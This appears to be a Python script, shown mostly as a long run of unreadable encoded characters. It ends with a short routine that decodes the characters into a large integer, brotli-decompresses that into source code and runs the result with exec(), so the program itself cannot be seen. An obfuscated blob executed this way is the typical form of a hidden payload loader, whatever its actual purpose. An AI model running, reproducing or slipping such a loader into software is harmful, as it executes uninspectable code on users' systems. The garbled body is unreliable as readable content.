=&:rXIZ?AoQ{@@BT߷,| {_Ґ.k=lz$޺/{-19MoŒT<[ZOJlp,
uʰq,
+GrvlLppymQ2pFe
z}qIhѮֹ_sOlPwJ}%uq|a_;O~֐U0]eflZƨ~IIeS?j70WBYC*'ƨONxZT:޵*Dا8:&|Y`GӂV1H_]|)VTЅhԒP
3Lt^*x	sؓvBOT9laPҍ1;3uMHU&N}AqH|axRVUUjFlz® |u~OǮ`PBssޚjP >Baihf5n,ƃ\= փ`}ŸV	Y\
ķS=HO_ۚD]מ63k(B.պR
7,PU2{B$~Φ9c=Oָٝeغ(F(C
#V`2/sG}iiHu^H=|z(%jwQ*ʌU[~`]'^A(8})?YX]Ɔha#seZ5R!ܸ_aЧhVl>mph%e,vH3XՓu,_a7y|;Ȭ=4ƪZ!j?= MYz f̍ЌaK-9`4Y:-w-O9@mnadfcsĪR"tً_vϙ/`)!غނJ}[eŤ6X̷#Y8wvͅYד*Zm}];dtfuF'o>n`۰z=x2u;UC3cnѯٮb:1mΛ1܆wWkisszVZ!/,,/:-83tsiam̠ܿ_ӹ)p=%JH_MZ(D߂nʢ])-}TKa"	b]ߩiHKe+kջ\7/^F_޸g}4ڂ7ǫ$=fKKǙ,;և~cc^B
3AU-xjx߳ SCEyc0aӫYSB>ґ͙6ag_eOl`0xfQULA.أ̏f{;)%J<XIZք8$(\Q3?zMh<;pUVm|dl(0sˢ| Neݞ&,pq60(aƂGRѿqZF<IO/moW3+OƔ1sm/آ}ی/NXV	6}DԛWq	/:qׁBo9NĴDoE0@hC-R\VǎΜ3ȋ!D+LU0L>hI7Xyߪ:+a6tb'z@3dA+uES[e682(աکb)Va>;MZӮHch>ƬּDake}%")WOe(ǒΎK˕Qj?g OQזe*f -|r#2Ȩ(!@`f&d0'2ʨ>@h`WW:]Q\Y}N~`|j˕r͞&fUѡ)SuFg5ЗD`NV.]uXiSl>2:iG!-1{3<أrLbNa
kiT.?\s3ǻyz8gc%C"V%F`ԝUHVW%ʮV^xBMZ;"ËdZN9ƨ+6=;
)fd}0ƫF4CHv:6"'JmMLlcڲokp˴:'QՂ[wsՙGR.zX9$&`ToQVI$5tmۀQfZ`a͔CְǶ~Gcj#m<jugAnHپ(N,ߝ}.;fɡTO+|bweӮgvRMwXίV?3͂:-?\P'qTƼF:m|џHIo-qнMmg<LSe4&S/KFKŬхy3cLrx1[b{޻ʏH=ESp;:ԦQaeVy/02oFd^>):/~ES̼]V_O0yrg~^=xu;kCOH&$;~/-wNlogs[4+f4s}vrڑ^3NTjt3<za27GǹA8+!|cރk>f<2H%RL!ٰioHAUآk7C39SA &ə-!P}\v ]%:Ї-ͳc	;+_ƫ#LWHPڜ<wec\mdy!Wɗcx`$|rԾܷEb­>F"\47vµ+|܍/U#![[ eR0xU ~il`~T|K!+Y,J6Gm|jlN61F]=[UU)W*^oqۤبei'a"BL31͹FgFgʮP7	ȳrlN	&L^xDXa}Z97U3wn0j٭F}2D7ɛ9\6Q޷v}HMbe`#&JiٻKh-$ǝvUZ Сl>xi0KK)2hp?zޅơ¶alʺ1[%ۙv~.R2K%x1%)P-oMB7\BtV0cwu?}VζTĪBNV!?Zk@:˿d)e6Iqn;zYԮ[-Βr SYefپI}+e AZ?M.x/jxg]ًK<߽&jT?g./ʍ*<0{>f #ׅWXgf ڰJU,/8ZZ 1wV]vJg6:7VAY/	a1aJJ׎1bL3Գ6D	Hh0/ʈak.ҘSO4Ã,a!08IHD`n,F
{aԽm ED06؜oӔ9k!z(\/QSCI&4$a̬~-"ga-(<W "`^U+?nRApEMF2
#-F}BdhЎWMYǨͩTwhYLPM]hA*>\]5NC;V`drϕsqq?xWo)ǘY{[e9,ҵ̛uMxe-@SUil1=Z?q0U5i<ӽe9U%(rNR""=Lز&Xȴ<d+m8	C&h_d}޾%˅0/W~<A]6fDeIPX:N6ڎKQdW8h_1@4DhzRΪn{k2Ǟ |V ׌ܜN.ҵ(ôzb
ʁW1֑RъV/kP[D/tQE#Uȩ]3X.j77|&6*Ɗ!> ,~4z./-*\lOhEN>7USwΏ˔Voݭ">#Kg?WSܜXm.K]Q'>VΐQkA 1	XEaHPk''ǰʹo!bp&B'0qkU75Dk22S56ˋ)ٽ/ٺʭaA&^!(CYOat|Z2΀Mg7%5
*AՕ0R|T">ˀn.ӟC-^wYh2J^D`/\,#\5bdz^ح^(vRwۡf.TlD*Gļ=)ɸ,Y8uĮ/dAgX޺IW9;aT)+4/j=KkqDZ4p<3ܻ\f7!X
dَ*QY ԠdT b~-TOJ^!=Њ4T/wfyvx&_bcMԕR=p@^W<!QPJТ#`xD9-=
&*ظ ͏x}2ʴ_μeZwܽc;>h9̀r։tަB3ԕe۞_|\l{jA.gK2bHBuP|"]۰Jp̻{֧rOd'<Er~$VlŬ:SLbx{Q;[<*c*mC-DLɻ&zmiHӃz$jQ)5ؙfXFy%t)(aΗkׁ͌kw4hgpEwHJNjDI5v6҃EIݒW#zҞcl>l)B~^M	m| _ޤЮ<	84^lhm:z_R~5*lj-DEqPYgH	:hw7:=^Ρ-(s}|l$ aVC&"YgB{7<	2LbÕ[^_j#;eb$G?ޚdrӳm)C3aB5)=L"UBf{yh`5=/6<`kH68PΫUM&WWF֚1Qi6?znZdt֙ҏ:`	PK)kۈ1޳ɸ*5ŘL1aT
X'n4jAB"^֔8\N^9qִ9/	šLbwp1\aymNy4ٟyȗQsEFX{1ٰU]>ىߐzx<OHƭ~WuҘu#Vģ7ÕVwpП$6Z0):O~k2_`(qrܖZg4"ό1gm(xls@UV{@&͈(Rb'pL.f($ n,ДlT4*@{!,y\*mQ%$&21kc?_pA	1ئ%̸ٹ~q}ZXB<QSĵL# ӮϵS^g
ñ^t|LӾYԻ {jZN6k&WWU;]DPߚ,2#d"."&{V3]DǺrq!xv0g+aMM2iih׸*_oaqu4}ƊbÚLDL#`Jc*V^]nc^
-`o	$t\-ń6RM&{rJ"FۂܧS9*xEح$מVԨn*ݰ:',L<ĦN5rM)Ǵc/ kfB=-$mi@&!!l15@;-X7L_)̱iu־´Poq-Ahd|?im[<F+G*-Ίh	Ak(,ff &.EtҕZAqyuQy^r {iٰAdn&d˟NtMOʚ=Wt+@md40P_oA1+YfΘf@qo]n6&
ڊţhod<?hޛE\[SX)N7r7~ix?8fkQk>)~ǌ1|c2bӀ_{Ī3֡:xwӭktڬPO.h,ю1Z:&tR5wߔSM
WrA[f&Bdͯ_̯ۦ*Jt/Q<1(g^N*4\t$`xi4o͇<j'@S=ϋ֞*p}-fuփ6c$+b)?qO<PoK^I̐.:nT<M67mݜSL|]~83	vF&dGiJTN7}Vpݡ)wz~ ؞L'pI|3&Ъ?Q#HX&k#lG_F9mu9.:Goz&Rݩԑcn. Y(Ҁ{4c"_:*yѥ7V%ӕÀc]dIs	tFn̥=s,=K)dL
,YvP'u>oY_P'ijyќ8`u?~{#є&b JŊ(@Zw>uo&UMfBɳ\y˯:%>7\,KHd3//q17Q2h
)7JU"8#^B6>^~R?W	\Fܔ=~'5vpQ	V	& gq.Яxb/L̷vy*^	J;ghPЉտU#<.۾w&}%j+-W^ւ099geArJhCNM/b	o(ȬoM[<ݺ3U"JCR42CܐٿڲD~Ƞl6OzB_)YkJVIV<&a4
\z_9cڏkBt"~ԹIcؤXjNv͖N/@D=ռ;Zs=V**@ȜjHW;<Po;VQ7҂Y'iT>F>wؐf6ipA=֙zo)ߓgz
12
~)/8>S/̳Q:`8T`&QimxLEUd;NV/Fk9ޛ7^R:`#?}t˱S	x>h\	7KFI+3ކ,7g8K_}#HҗspEq'EGt`U)3'\(˗3%Q@Uk9K61J?~@I,kFȔgeϟR#V̝KoblƧ_әZOIx>6^
hh%5'.Op4y(Ԫ]}!lسT	{G"QNz kfrȊC k+|R/0YI$M*=,VhJuձKA>.j
6#ޗ&\pN"CühwixʋwLr~ۦ.[PʘiS̯I4@<Q][B!vI<_o"ՅCjKV+'ciK'pGG7ۉ6gweڧyI5Gڌz2m#n$AO4ޘo5W`rmtZ:ݿjSLYl*Ph<b:QsFiDNy:F"	k2~GQlKU0.߯_v
P\r]̿<w)sF_;k~6w;Zrtű_naˍu+S	,wRgPy34M'˦ޭm ̮Uq4wϬ]e~_AW9\@wjJX 67eRn(-@T[WOސh_%2:W-zc#3ɩ~%ݛPϣxF<wvΘϽC߈ZPuk>wDQ&;n-}/DkڿKKp)݀Gc'S6D|Q>ik)ȼ9:ފhMPmVzHɑn9"zKvΓup1Ƀ&ŗUpkx4piBٖӞ`Ӱ_[kznHjzZڜ	ɺs*޿LŴ'Gqye`9tF,9SE=2ƹ}78":9y s,>ML"^cF܉duzMYӜNZ=yfek#Oh24f'fV͹*ڣLBKTy2bI=bAԅYk2œBoUQTmUQ!C]$vN6^970Xgq-J)%j>ҤgY,8ĐTۈ(zrCr*4Z?R/zkKhޕDB{Z{lȠ0@Ζ$]_Ɓƪ.cUE>LNcg!_ؼ0kJٵ5u$5K^_L̴#*ުP}o@,Hܴ`s/*JDweLO*6ףL}]LSXp 8"LzFS!?+D	g#qە+5mY^J448|o)v\*M/5?Ǫ,VYn@^a6[M)m02"Ѻ+ކj
`X\ʯږvYC`0EEʟQלzfuK?gÆ'\k&?k? Kf|j?ӳVNs>~ce|TY8sML!=H;Rp7k r
m(-[?M|ծ_rc֞ChK:ŝ.OA.q0bq@v$zSѸi`2v/@Ž$	;r#ԥ&)IF$[#Yf/D*DaUPV˃ܕ/ŢonN
P7JW2-LĨsCw`iX&n,I-	Ymmӹٲ]Ԩ.}ёTIn̪\nՎZ9f_nOba(?D$J9SHE&XZqm7:PMLAdXCs05)طЂPmeC>)~}"Z׮,uMw/rL\vnQaK 5vλwT62،{yh,##'-QNjsSƸEȽݽ&BYL?v8MDd+љntzTU9-Y]l`[l;-1J?kF4Jh+xiҟNɿt?8	ͽcLJ4F}Ň΋%y]"Vx˥2ׯ١lOʴ8n,|_˜:!;<4fP)շ|FD^!h|iNАP̋Xϻgpi^:6J*hR4wh5bOӥʱ"GKw[@fh2ܘݔ]ěT=;9'Ӊm)۫{IJe8bB~?Hםe
o?JP+9;6d13f&&!6g3Ie)شP1ɥ-{܉.V@)!u:(2G7{\|]Qw*>>#~='$\ 2,CBV>ݒKlNo[zof6D[]w]u;\߇eUa/ҍY'uֻ_U)NںUFm#۴r.9^_yE%îA0ޯK+}l/L]+~oG9Tx|֘L|dwԛ%c#jv/,ռru%:B'%:J7Mk1t-[#g{$"u/*oQcƖ%_kUyy<NuUp+:%^H1$AyRYEhٜg|BSr%I9vx?ȏ
ݫ>՚m'}>h_.|0݃0ϫ_d8߿x@ًaBD@ݜ*(j:Vh~G8?(o#\Ԗ+kƷǽ޴܄ӨOD9Fؤ40YwXQy~3<{&r*6.ًj@m!`ǿaJk]tؾekd>	W	Ⱦ'%>8pd&``0hAXU6cDtqy-$|ו˶dS&Dǒި/`fG'AP'8ޙu:rdaSg,R;dĂ!MY-XH£ĊrfΤso?h -JH34A2yOhvZ4d2ͯ=؇+]pՁaOz9Xv
}S#1'_FQ3>_*	`'4EH 6gX݂<RTƤsxylѡtlUm
0h-
hוXKoޖqLh-]բd2/ ڙW*OI-̄
3+y#nƚ<pŨžx@أo\̥֙҂g$AwBmțͫ%'ح,W`A_xmwRR-gB.Z/ԿyYy܂%Gɑشř`1G"?U=ڈ	>7*%<ŧq(4Jrk̵	ȁV7q'6Akj9ɪw>ɵsv!}#*AXqвar,!)$oPY19'8fM|ٚ.ظЙԑv/tA>#6Sx8ߠa#b˚[ni#'PsD(FEt,Up)˕5R
rՇ]q>:OV7['`yn@x]`8nKfF8FK_v$peeйQiʧ"?^p2?R[>HM	)v[QuPݟνq:@Ru'Vb/If58ubC~9pVnuyC_#
^Xqέ9KŦ"/{rjm*@ڟJ,~]_ɫ=fzd=f7߅vQ&ipd5s2+W,ibV'կOaӖ!{Q0SKDoDfF>Y1i)ށ/uc>7}_}F܆Zz6Ͻgg8)uiw
6dSSogpMt~huȖ{\?-W;<x0`(iTDRx@2-rۨ\i"S;^ [H	M".}HlB3OS3Ӗ>`i@WO0>.amX,֍vxհAض|Mz[7,/6%۹lXz_t~Z؏TqӡdL6cQb}G&	?QoX$2C?]wW.V/dWKW}9p/93xvPȿCWm֮h0Ϣ|У'(}1t#R sH#ŝ^efCSQ7=z#kyTW~7͘;qUn͔C3KmER8G<
@92ڴ[?۱E/
*=nvlBxgJ˖:Q9	tH
eJ/`
j)P'IM8}܈Hw2R`rhN8sA3*C{ALB; }v]bh֌=Vp(e[`LÿdȈhZ,]E	pؕĠkZE.+~	q)jȔYAS5|0,p1&wMѽL[tVv@]Qlwo$x&)ɬQ<!hԖV)nDvP[J*1QA`ʫa*˽ߺ^ߋ̹:zïO,@TX^<.׏ڕmݡ{>_}1Nsv5(+%/ɮD`lI
s.Dh[X+h(m!?PN\qGJۉBtcǯܙʩYeSX@ӭ9گIλQ/%[֥Э2A~ی+osC%P<|CUdtnix2"-QdPksFVwLI̮5\<~/ž~6X_L1@.,IoG&'
רpo()Q9ֶ̨dp4ϙ-nL	aSsrv>IO:5ampDPּO.'#aĜsلm<[jѭGj)6Y@4nEXEW5-y_Lp ߰f[Ώ-ܻ.+x̎qk:c:Mе9|­"ٛƐTC:(tǑȶdȿ˯qF>$Oʹ.\J987MVP\@&+H2ĥT̳ciLITMJ^k+]Ԫ~Y?:׾=]it?PF=[0)Jia=a|ۺZfC~:<_ǜz.PWj<iVaz@zP8@en{URIȕXd~9mBnҔĳH,ޛI6-%QTqKNïV\zY{LL4mJ]j_ Sx	ǧCƚJ~qujQ.i[G$
a<rqKAaf(EfXz֬NY=Ŕb"r>wfAțȕȉ8JȌ}#;5(ްĢ&IYePRr:غv!
mqiK8Е9X>iYTuѼ<ؒTXڵ,PqK5YԜ.6X>Ayե(ATGݖGa?w|NuFԴIMܒ4׫7]ʭ_r4sʹnUtLtxϭ?E.s[&^{Џ#{N%ȚEmgAkI} =X˾-4N܏63wv@Ҵ\՟ºx,wݫJKcyywӹ&6U$?7|8>\Hɂ3O F:.#,!Y+^}ϔ$\2eOCɌ=cE$uFaii(β
Yˡt(61Ƅ0~2	5}ʑn̷̑4[Ĭ>bі#AbUgqjy9M_)K̵X.t^ݳ&pڭYDͰZ5oQLڮ~M+pκk<!p6rrbYARer݊Jh"R|n~ƅ?ܘgZ$otڡ_+~=;j®Ri[g	&a[
9ňW $~2a:mfbh˫VcBݓ0fͽObjwYNV]_D3kFMUMcx7{s^"]g:ۋbI5qqX=²sue9/iHz0NF=B|Сթ#'6]	ǖtAR( A5Cܦ<qR6a:7xD+-t.M<=/
> g$zhQ|ןQ3,mY%y)Ug{z	YxɔVfhڥy{ӌUONVmW2kZ0;E=9z$r^NLBX7Nv.fMϚ֔;|;JCމFT1U1<лx,z.At90'ѷI#{AuT2*G7	մp@j]O42eIzce'׿bvBX߳PPti'5OR)ok'c d?kwb~tݽ("`?Q}Ơeyf,=`!96r&B%Wa{ȎkƉ}߄:^iϒ{='$טPګk6P
[Q/uQr*<?D<|" A0Ѭ&c2кI@P|s
zֵ̪}-Z`'x};ȖB6wbyG3;R«~FlYjޭauNRw>y= )2$){DTE'gV!H[2xHl\&|h˻&9W$p4R)#نV3Ԑã@P
ژ)i`(<dLb?p431cúvxItˉwѩS*,{qFPڐ-jKEϰW$E'8o3Е^n+^')?_q(a`\x,5Զ,!۽
!t5	^	S#8&KH74!-WGDR:*r`x
0cKԶAۮ,N!s؁$:=l~gUցʼL"H7mzu:u}hnTw{r9
>[zIdANз
.	+M=P`P޿ӁeƯ)Eo/xJ\OS`QyG9ϣ4y<H{UiR."ʔKF
jP%{/ui=%ڝ٢aIm9mp'y:
GVҠ 
H_v[W4J1	Ar
\?P%r?u@!+{#P8=(IwĦ;=	gܦfaP!K&rʻǭS$reSTl'ͦNhZfP!K\54}J{}P^	[w+rFaȥc؆3Voֺ5B
Mƣ77Գ]h[X8!;:N>P*%:SŲm;;Y`tҦ~TNh|٨G~?51x5T	]C>RdˈUOgwxQ<e ͌D8<:HM{Bd*?zi[6\BA_n?x7h2"y\ˏ9v"x}7IKL2aI	Bzݯ݄`P2-+L,֩o@dKߥa"5BZQLXkAp -Hlהiqd rƛV!op\t#9:I@\B)=
.B]VE\x#U+"N$1GUd$5n7|5=SeuΔCGX"vf٘؉~ȝ*B']m]J}}ߴЭ
/)+r$="y0FWtM-	"v.>4,G~5YRT LyP]{aM2_g1aƇh_LrM}w'e-xyw7@r2&gݮMygMbt0"_K)Ǘ9/ctt<RՌ\I@",CYt;JҚ9Dv+Ϊn_"fdF0pyzZU#Xw&Әykȁ|[-&K?"fJ"hTbhET\:ؘ\drB<Ne'gݪ{T^vUlդ^NvQA\KBmxz0hw5[kaKR(#mDƁowWmt;6x%Чƽy#PQuYmq(fy`2/SVj(0!$al"cy\H̅	&e6ljлUqVZh֟ɹTuQR2VosC=BTg|k؏Z<$ơY~jIHq߼ExK)EVɢ4q6_w-8bj ݱtvjl0|D!E/0čfo=e,6&soMɊ;-uaj\t'xY֨DX\)W҆ߝU}ک~K>mPx׷ɧVzlM:qp((ڃu8Zsv?q́ib{o	{ECRY/vAL=HqX4IJcIY-/̛0Ż-bԧнCwY}/^(a7Ls(3L˄%--)aAD/Z5BjH[0@V0Q*8Lӱ.jpi[\;_HV۲ȟĸƋq$wR's߲iJmLO"'ړQz_mBkǱM#NytsWxٍ3+.ɞ]йt"!-ҲˇJ9t%pTɰ,3FY@z@G5w
Q+n+oHAvL-iW9lB?G+S!ΡK]E*LXų>pfcb[-<َu!(KA{GJe5MEt6ԧBeV:MpW$8~Z܉)]Nϫx{Ԣwomz̠|`\0cOk9R͹!y1gǛQ }XcGV~Q</qO4(?47:rsg%bl%e]=]ET4FL`5	~btg7ۖYVobdFM̵;yj_ir:֛9ܢ[MOYK6'~G-IC,'IBYmu4 *v"qi֧jpQ"Yâh<ѥBsdckKK3żZ&IFtN3PhN:zFBӶc|KE#oY,^{MȾ36D y3Kƴ=3pœ,''':
 o=ord(c)
 for x in([o-1-(o>13)],[o-128,126])[o>127]:n+=x*b;a,b=b,126*b+1920*a
s=brotli.decompress(n.to_bytes(25327)).decode()
import linecache
linecache.cache['<string>']=0,None,s.splitlines(1),0
exec(s)
